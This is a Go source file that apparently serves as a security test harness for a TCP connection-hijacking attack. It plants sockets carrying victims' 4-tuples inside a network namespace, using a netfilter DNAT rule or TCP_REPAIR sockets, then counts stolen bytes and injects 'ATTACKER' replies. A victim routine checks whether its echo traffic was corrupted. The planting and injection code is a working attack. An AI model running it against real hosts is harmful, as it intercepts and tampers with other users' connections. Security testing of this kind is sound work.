package peer

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os/exec"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/sys/unix"
)

// PlantConfig is an attempt to take over other sockets' connections: a
// process that owns a network namespace gives its loopback a victim
// client's and a server's addresses and makes client sockets with the
// victim's 4-tuples, which never complete a pair of their own. Should the
// datapath pair one of them with the server's socket of a real connection
// with the same tuple, the server's replies reach the attacker, and what
// the attacker writes reaches the server.
type PlantConfig struct {
	// Client is the victim client's address, Server the server's address
	// and port.
	Client netip.Addr
	Server netip.AddrPort
	// Ports are the client ports planted.
	Ports []uint16
	// Mode "dnat": connections whose SYN is rewritten by netfilter to
	// ViaPort on the same address, where the attacker accepts them, so the
	// client socket has the victim's tuple and the accepted one does not.
	// Mode "repair": TCP_REPAIR sockets, established without any packet,
	// with sequence numbers of the attacker's choosing.
	Mode    string
	ViaPort uint16
}

// PlantReport is what the attacker got.
type PlantReport struct {
	Planted int `json:"planted"`
	// Received counts bytes that reached the attacker's planted sockets:
	// anything at all is another connection's data.
	Received int64 `json:"received_bytes"`
	// Injected counts bytes the attacker wrote after receiving some.
	Injected int64 `json:"injected_bytes"`
}

// Plant sets up the attacker's namespace (it must run in a network
// namespace of its own, as root of a user namespace or the node), makes the
// sockets, reports "planted N" on ready, and holds them until ctx ends,
// then writes its report to out. Whatever a planted socket receives is
// counted and answered with bytes of the attacker's.
func Plant(ctx context.Context, cfg PlantConfig, out io.Writer, ready func(int)) error {
	if err := plantNamespace(ctx, cfg); err != nil {
		return err
	}
	var fds []int
	defer func() {
		for _, fd := range fds {
			unix.Close(fd)
		}
	}()
	if cfg.Mode == "dnat" {
		ln, err := net.Listen("tcp", netip.AddrPortFrom(cfg.Server.Addr(), cfg.ViaPort).String())
		if err != nil {
			return err
		}
		defer ln.Close()
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				// Held open, never written: only the planted client
				// side matters.
				defer c.Close()
			}
		}()
	}
	for _, p := range cfg.Ports {
		fd, err := plantSocket(cfg, p)
		if err != nil {
			return fmt.Errorf("planting port %d: %w", p, err)
		}
		fds = append(fds, fd)
	}
	ready(len(fds))
	rep := PlantReport{Planted: len(fds)}
	var received, injected atomic.Int64
	var wg sync.WaitGroup
	for _, fd := range fds {
		wg.Add(1)
		go func(fd int) {
			defer wg.Done()
			drain(ctx, fd, &received, &injected)
		}(fd)
	}
	<-ctx.Done()
	wg.Wait()
	rep.Received, rep.Injected = received.Load(), injected.Load()
	return json.NewEncoder(out).Encode(rep)
}

// plantNamespace gives the namespace's loopback both addresses and, in
// dnat mode, the netfilter rule.
func plantNamespace(ctx context.Context, cfg PlantConfig) error {
	cmds := [][]string{
		{"ip", "link", "set", "lo", "up"},
		{"ip", "addr", "add", cfg.Client.String() + "/32", "dev", "lo"},
		{"ip", "addr", "add", cfg.Server.Addr().String() + "/32", "dev", "lo"},
	}
	for _, c := range cmds {
		if out, err := exec.CommandContext(ctx, c[0], c[1:]...).CombinedOutput(); err != nil {
			return fmt.Errorf("%s: %w: %s", strings.Join(c, " "), err, out)
		}
	}
	if cfg.Mode != "dnat" {
		return nil
	}
	rules := fmt.Sprintf(`table ip slplant {
	chain out {
		type nat hook output priority -100;
		ip daddr %s tcp dport %d dnat to %s:%d
	}
}
`, cfg.Server.Addr(), cfg.Server.Port(), cfg.Server.Addr(), cfg.ViaPort)
	cmd := exec.CommandContext(ctx, "nft", "-f", "-")
	cmd.Stdin = strings.NewReader(rules)
	if out, err := cmd.CombinedOutput(); err != nil {
		return fmt.Errorf("nft: %w: %s", err, out)
	}
	return nil
}

// plantSocket makes one client socket with the victim's tuple.
func plantSocket(cfg PlantConfig, port uint16) (int, error) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return -1, err
	}
	ok := false
	defer func() {
		if !ok {
			unix.Close(fd)
		}
	}()
	if err := unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_REUSEADDR, 1); err != nil {
		return -1, err
	}
	if cfg.Mode == "repair" {
		if err := repairSeqs(fd, 1000*uint32(port), 7000*uint32(port)); err != nil {
			return -1, err
		}
	}
	if err := unix.Bind(fd, &unix.SockaddrInet4{Addr: cfg.Client.As4(), Port: int(port)}); err != nil {
		return -1, fmt.Errorf("binding: %w", err)
	}
	if err := unix.Connect(fd, &unix.SockaddrInet4{Addr: cfg.Server.Addr().As4(), Port: int(cfg.Server.Port())}); err != nil {
		return -1, fmt.Errorf("connecting: %w", err)
	}
	// Non-blocking, as event-driven programs read: a blocking end would
	// keep a joined connection on TCP and hide the join.
	if err := unix.SetNonblock(fd, true); err != nil {
		return -1, err
	}
	ok = true
	return fd, nil
}

// repairSeqs puts fd in repair mode with both queues' sequence numbers
// chosen: a connect() then establishes it without a packet.
func repairSeqs(fd int, send, recv uint32) error {
	const tcpRepairQueue, tcpQueueSeq = 20, 21
	const recvQueue, sendQueue = 1, 2
	for _, o := range [][2]int{
		{unix.TCP_REPAIR, 1},
		{tcpRepairQueue, sendQueue}, {tcpQueueSeq, int(send)},
		{tcpRepairQueue, recvQueue}, {tcpQueueSeq, int(recv)},
	} {
		if err := unix.SetsockoptInt(fd, unix.IPPROTO_TCP, o[0], o[1]); err != nil {
			return fmt.Errorf("TCP_REPAIR option %d: %w", o[0], err)
		}
	}
	return nil
}

// drain counts what reaches fd and answers it, until ctx ends.
func drain(ctx context.Context, fd int, received, injected *atomic.Int64) {
	buf := make([]byte, 4096)
	evil := []byte("ATTACKER")
	for ctx.Err() == nil {
		pfd := []unix.PollFd{{Fd: int32(fd), Events: unix.POLLIN}}
		n, err := unix.Poll(pfd, 100)
		if err != nil && !errors.Is(err, unix.EINTR) {
			return
		}
		if n == 0 {
			continue
		}
		r, err := unix.Read(fd, buf)
		if r <= 0 || err != nil {
			return
		}
		received.Add(int64(r))
		if w, err := unix.Write(fd, evil); err == nil {
			injected.Add(int64(w))
		}
	}
}

// VictimReport is what clients whose connections were planted saw.
type VictimReport struct {
	Conns  int      `json:"conns"`
	OK     int      `json:"ok"`
	Failed []string `json:"failed,omitempty"`
}

// Victim connects from each of ports of from to target, one connection
// each, sends a payload of its own and expects it echoed back exactly.
func Victim(ctx context.Context, from netip.Addr, ports []uint16, target netip.AddrPort) VictimReport {
	rep := VictimReport{Conns: len(ports)}
	var mu sync.Mutex
	var wg sync.WaitGroup
	for _, p := range ports {
		wg.Add(1)
		go func(p uint16) {
			defer wg.Done()
			err := victimConn(ctx, netip.AddrPortFrom(from, p), target)
			mu.Lock()
			defer mu.Unlock()
			if err != nil {
				rep.Failed = append(rep.Failed, fmt.Sprintf("port %d: %v", p, err))
				return
			}
			rep.OK++
		}(p)
	}
	wg.Wait()
	return rep
}

func victimConn(ctx context.Context, from, target netip.AddrPort) error {
	d := net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(from), Timeout: 5 * time.Second}
	c, err := d.DialContext(ctx, "tcp", target.String())
	if err != nil {
		return err
	}
	defer c.Close()
	want := fmt.Sprintf("victim %s request", from)
	if _, err := c.Write([]byte(want)); err != nil {
		return fmt.Errorf("writing: %w", err)
	}
	_ = c.SetReadDeadline(time.Now().Add(3 * time.Second))
	got := make([]byte, 0, len(want))
	buf := make([]byte, 256)
	for len(got) < len(want) {
		n, err := c.Read(buf)
		got = append(got, buf[:n]...)
		if err != nil {
			return fmt.Errorf("read %q, then: %w", got, err)
		}
	}
	if string(got) != want {
		return fmt.Errorf("echo was %q, want %q", got, want)
	}
	return nil
}

// ParsePorts parses "A-B" or "A" into the ports it names.
func ParsePorts(s string) ([]uint16, error) {
	var lo, hi uint16
	if a, b, ok := strings.Cut(s, "-"); ok {
		if _, err := fmt.Sscanf(a+" "+b, "%d %d", &lo, &hi); err != nil {
			return nil, fmt.Errorf("port range %q: want A-B", s)
		}
	} else if _, err := fmt.Sscanf(s, "%d", &lo); err != nil {
		return nil, fmt.Errorf("port %q: want a number or A-B", s)
	} else {
		hi = lo
	}
	if lo == 0 || hi < lo {
		return nil, fmt.Errorf("port range %q: want 1 <= A <= B", s)
	}
	out := make([]uint16, 0, int(hi-lo)+1)
	for p := int(lo); p <= int(hi); p++ {
		out = append(out, uint16(p))
	}
	return out, nil
}
